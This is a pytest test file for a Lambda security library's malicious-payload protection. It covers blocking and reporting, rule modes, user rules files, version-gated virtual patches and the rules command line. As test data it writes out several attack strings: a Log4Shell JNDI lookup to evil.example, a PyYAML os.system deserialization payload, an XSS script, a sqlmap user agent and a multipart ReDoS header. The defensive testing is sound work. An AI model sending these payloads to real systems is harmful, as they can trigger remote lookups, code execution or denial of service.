"""Malicious payloads through @protect: blocked before any user code runs (the handler's marker stays empty),
reported without touching the response, per-rule modes, disabled rules, users' rules files, non-HTTP
events, version-gated rules against a throwaway distribution, and the `app-protect rules` commands."""
from __future__ import annotations

import copy
import importlib
import json
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from app_protect_lambda import RequestBlocked, protect
from app_protect_lambda.checks import payload_rules
from app_protect_lambda.findings import AttackKind
from app_protect_lambda.testing import LambdaContext, apigw_v2_event, sqs_event
from tests.payload_rows import big_benign_json, body, q, ua

OK = {"statusCode": 200, "headers": {"Content-Type": "text/plain"}, "body": "hello", "isBase64Encoded": False}
LOG4SHELL = "${${lower:j}ndi:dns://evil.example/a}"
CLI = [sys.executable, "-m", "app_protect_lambda.cli"]


@pytest.fixture(autouse=True)
def fresh_versions() -> Iterator[None]:
    payload_rules.forget_versions()
    yield
    payload_rules.forget_versions()


class App:
    """A handler under @protect whose marker says whether any of its code ran."""

    def __init__(self, **settings: Any) -> None:
        self.ran: list[Any] = []

        def handler(event: Any, context: Any) -> Any:
            self.ran.append(event)
            return copy.deepcopy(OK)

        policy = {"protections": {"malicious_payload": settings}} if settings else None
        self.handler = protect(policy=policy)(handler)

    def __call__(self, event: Any) -> Any:
        return self.handler(event, LambdaContext())


def test_block_answers_403_before_the_handler_runs(records) -> None:
    app = App(mode="block")
    assert app(q(LOG4SHELL, "name"))["statusCode"] == 403
    assert app.ran == []
    [record] = records.detections()
    assert record["protection"] == "malicious_payload" and record["rule"] == "payload.log4shell"
    assert record["action"] == "blocked"
    assert record["input"] == {"location": "query.name", "value": LOG4SHELL}  # no transform changed it
    assert record["evidence"] == "${${"
    assert "Log4Shell" in record["message"] and "CVE-2021-44228" in record["message"]


def test_report_never_changes_the_response(records) -> None:
    app = App(mode="report")
    answer = app(q(LOG4SHELL))
    assert answer == OK and len(app.ran) == 1
    assert [r["action"] for r in records.detections()] == ["reported"]


def test_the_pack_is_opt_in_even_when_everything_else_blocks(records) -> None:
    # a policy that does not name it pays nothing for it (checks/payload.py, payload_mode)
    ran: list[Any] = []
    handler = protect(mode="block")(lambda event, context: ran.append(1) or copy.deepcopy(OK))
    assert handler(q(LOG4SHELL), LambdaContext()) == OK and ran == [1]
    assert records.detections() == []


def test_benign_traffic_passes_untouched(records) -> None:
    app = App(mode="block")
    for event in (big_benign_json(), q("costs ${price}"), ua("Mozilla/5.0 (X11; Linux x86_64)"),
                  body({"note": "こんにちは {{name}}", "price": "$5"})):
        assert app(event) == OK
    assert len(app.ran) == 4
    assert records.detections() == []


def test_a_rule_mode_beats_the_protection_mode(records) -> None:
    app = App(mode="report", rules={"payload.log4shell": "block"})
    assert app(q(LOG4SHELL))["statusCode"] == 403 and app.ran == []
    assert app(ua("sqlmap/1.7"))["statusCode"] == 200 and len(app.ran) == 1  # still report
    assert [(r["rule"], r["action"]) for r in records.detections()] == [
        ("payload.log4shell", "blocked"), ("payload.scanner-user-agent", "reported")]

    relaxed = App(mode="block", rules={"payload.scanner-user-agent": "off"})
    assert relaxed(ua("sqlmap/1.7")) == OK


def test_every_matching_rule_is_recorded_and_the_blocking_one_last(records) -> None:
    app = App(mode="report", rules={"payload.xss": "block"})
    event = q("<script>alert(1)</script>", "q")
    event["headers"]["user-agent"] = "sqlmap/1.7"
    assert app(event)["statusCode"] == 403
    assert [(r["rule"], r["action"]) for r in records.detections()] == [
        ("payload.scanner-user-agent", "reported"), ("payload.xss", "blocked")]


def test_a_disabled_rule_does_not_run(records) -> None:
    app = App(mode="block", disabled_rules=["payload.log4shell"])
    assert app(q(LOG4SHELL)) == OK and len(app.ran) == 1
    assert records.detections() == []


def test_off_turns_the_pack_off_but_keeps_rules_set_to_block(records) -> None:
    assert App(mode="off")(q(LOG4SHELL)) == OK
    app = App(mode="off", rules={"payload.log4shell": "block"})
    assert app(q(LOG4SHELL))["statusCode"] == 403 and app.ran == []
    assert app(ua("sqlmap/1.7")) == OK


USER_RULES = """\
version: 1
rules:
  - id: acme.debug-switch
    name: Debug switch from outside
    severity: high
    tags: [acme]
    targets: [query, "header:x-debug"]
    transforms: [url-decode, lowercase]
    regex: '(?:^|[^a-z])debug\\s{0,4}=\\s{0,4}(?:1|true|on)\\b'
"""


def test_a_users_rules_file_is_enforced(tmp_path: Path, records) -> None:
    rules = tmp_path / "rules.yaml"
    rules.write_text(USER_RULES)
    app = App(mode="block", rules_files=[str(rules)])
    event = apigw_v2_event(headers={"x-debug": "DEBUG = TRUE"})
    assert app(event)["statusCode"] == 403 and app.ran == []
    assert records.detections()[0]["input"]["location"] == "header.x-debug"
    assert app(q("debugging=true")) == OK  # a longer word is not the switch


def test_a_users_rule_that_is_not_linear_fails_the_policy(tmp_path: Path) -> None:
    rules = tmp_path / "rules.yaml"
    rules.write_text(USER_RULES.replace("\\s{0,4}=", "\\s*="))
    from app_protect_lambda.errors import PolicyError

    with pytest.raises(PolicyError, match=r"line 9: rules\[0\].regex: refused, not linear-time: unbounded"):
        App(mode="block", rules_files=[str(rules)])


def test_non_http_events_are_judged_by_the_rules_that_target_every_input(records) -> None:
    app = App(mode="block")
    with pytest.raises(RequestBlocked, match=r"malicious_payload blocked \(payload.log4shell\) at records\[0\].body"):
        app(sqs_event([json.dumps({"name": LOG4SHELL})]))
    assert app.ran == []
    assert app(sqs_event([json.dumps({"name": "costs ${price}"})])) == OK


def test_a_match_in_a_json_body_names_its_field(records) -> None:
    app = App(mode="block")
    assert app(body({"order": {"note": LOG4SHELL}}))["statusCode"] == 403
    assert records.detections()[0]["input"]["location"] == "body.order.note"


# Version gating against a real distribution in a temporary site directory.
YAML_ATTACK = "!!python/object/apply:os.system ['id']"


def fake_distribution(site: Path, name: str, version: str) -> None:
    info = site / f"{name}-{version}.dist-info"
    info.mkdir(parents=True)
    (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n")


@pytest.fixture
def site(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    directory = tmp_path / "site"
    directory.mkdir()
    monkeypatch.syspath_prepend(str(directory))
    importlib.invalidate_caches()
    return directory


def test_a_virtual_patch_applies_only_where_the_affected_version_ships(site: Path, records) -> None:
    fake_distribution(site, "python_multipart", "0.0.6")
    redos = apigw_v2_event(headers={"content-type": 'multipart/form-data; boundary=x; a="' + "\\" * 64 + '"'})
    app = App(mode="block")
    assert app(redos)["statusCode"] == 403 and app.ran == []
    assert records.detections()[0]["rule"] == "payload.python-multipart-redos"


def test_the_same_event_passes_where_a_fixed_version_ships(site: Path, records) -> None:
    fake_distribution(site, "python_multipart", "0.0.7")
    redos = apigw_v2_event(headers={"content-type": 'multipart/form-data; boundary=x; a="' + "\\" * 64 + '"'})
    app = App(mode="block")
    assert app(redos) == OK and len(app.ran) == 1
    assert records.detections() == []


def test_pyyaml_gate_reads_the_version_the_function_ships(site: Path) -> None:
    event = body(YAML_ATTACK, "application/x-yaml")
    app = App(mode="block")
    assert app(event) == OK  # PyYAML 6 in this environment: the unsafe loader is gone
    fake_distribution(site, "PyYAML", "5.3.1")  # earlier on sys.path than the real one
    payload_rules.forget_versions()
    assert App(mode="block")(event)["statusCode"] == 403


# The command line.
def run(*args: str, cwd: Path | None = None) -> subprocess.CompletedProcess:
    return subprocess.run([*CLI, *args], capture_output=True, text=True, timeout=60, cwd=cwd)


def test_rules_lists_the_active_rules_with_their_modes_and_why(tmp_path: Path) -> None:
    policy = tmp_path / "policy.yaml"
    policy.write_text("version: 1\nprotections:\n  malicious_payload:\n    mode: report\n"
                      "    rules: {payload.log4shell: block}\n    disabled_rules: [payload.xss]\n")
    result = run("rules", "--policy", str(policy))
    assert result.returncode == 0, result.stderr
    lines = {line.split()[0]: line for line in result.stdout.splitlines()[1:]}
    assert lines["payload.log4shell"].split()[1] == "block" and "mode from rules.payload.log4shell" in \
        lines["payload.log4shell"]
    assert lines["payload.xss"].split()[1] == "off" and lines["payload.xss"].endswith("disabled_rules")
    assert lines["payload.shellshock"].split()[1:3] == ["report", "critical"]
    assert "inactive: PyYAML 6" in lines["payload.pyyaml-python-tag"]


def test_rules_test_shows_what_an_event_triggers(tmp_path: Path) -> None:
    rules = tmp_path / "rules.yaml"
    rules.write_text(USER_RULES)
    event = tmp_path / "event.json"
    event.write_text(json.dumps(apigw_v2_event(query={"debug": "1", "q": LOG4SHELL})))
    result = run("rules", "test", str(rules), str(event))
    assert result.returncode == 0, result.stderr
    found = [json.loads(line) for line in result.stdout.splitlines() if line.startswith("{")]
    assert [item["rule"] for item in found] == ["acme.debug-switch"]
    assert result.stdout.splitlines()[-1] == "1 of 1 rules triggered"
    with_pack = run("rules", "test", str(rules), str(event), "--pack")
    assert {json.loads(line)["rule"] for line in with_pack.stdout.splitlines() if line.startswith("{")} == {
        "acme.debug-switch", "payload.log4shell"}
    bad = tmp_path / "bad.yaml"
    bad.write_text(USER_RULES.replace("severity: high", "severity: dire"))
    refused = run("rules", "test", str(bad), str(event))
    assert refused.returncode == 2 and f"rules {bad}, line 5: rules[0].severity" in refused.stderr


def test_the_readmes_rules_and_policy_examples_are_valid(tmp_path: Path) -> None:
    import re

    from app_protect_lambda.policy_store import load

    text = (Path(__file__).parents[2] / "README.md").read_text()
    section = text[text.index("### Malicious payloads"):text.index("<!-- not-enforced:")]
    policy_block, rules_block = re.findall(r"```yaml\n(.*?)```", section, re.DOTALL)
    rules = tmp_path / "acme.yaml"
    rules.write_text(rules_block)
    [rule] = payload_rules.load_file(str(rules))
    assert rule.id == "acme.debug-switch" and rule.applies_to is not None
    policy = tmp_path / "policy.yaml"
    policy.write_text("version: 1\n" + policy_block.replace("/var/task/rules/acme.yaml", str(rules)))
    options = load(str(policy)).options(AttackKind.MALICIOUS_PAYLOAD)
    assert options["disabled_rules"] == ("payload.xss",)
